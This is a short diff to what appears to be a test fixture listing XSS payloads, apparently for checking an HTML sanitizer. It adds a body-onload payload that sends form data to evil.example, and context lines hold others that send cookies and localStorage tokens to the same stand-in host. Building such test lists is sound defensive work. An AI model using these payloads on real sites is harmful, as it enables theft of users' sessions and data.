@@ -195,6 +195,7 @@ ACTIVE = {
     "picture's link": '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
     "handler": '<img src=x onerror="alert(1)">',
     "handler, cookie": "<b onclick=\"fetch('https://evil.example/?c='+document.cookie)\">a</b>",
+    "handler, field": """<html><body onload="img.src='//evil.example/'+escape(document.forms[0].value)"></html>""",
     "handler, picture": "<svg onload=eval(atob('YQ=='))></svg>",
     "script, cookie": "<script>new Image().src='https://evil.example/?c='+document.cookie</script>",
     "script, storage": "<script>fetch(`https://evil.example/${localStorage.getItem('t')}`)</script>",
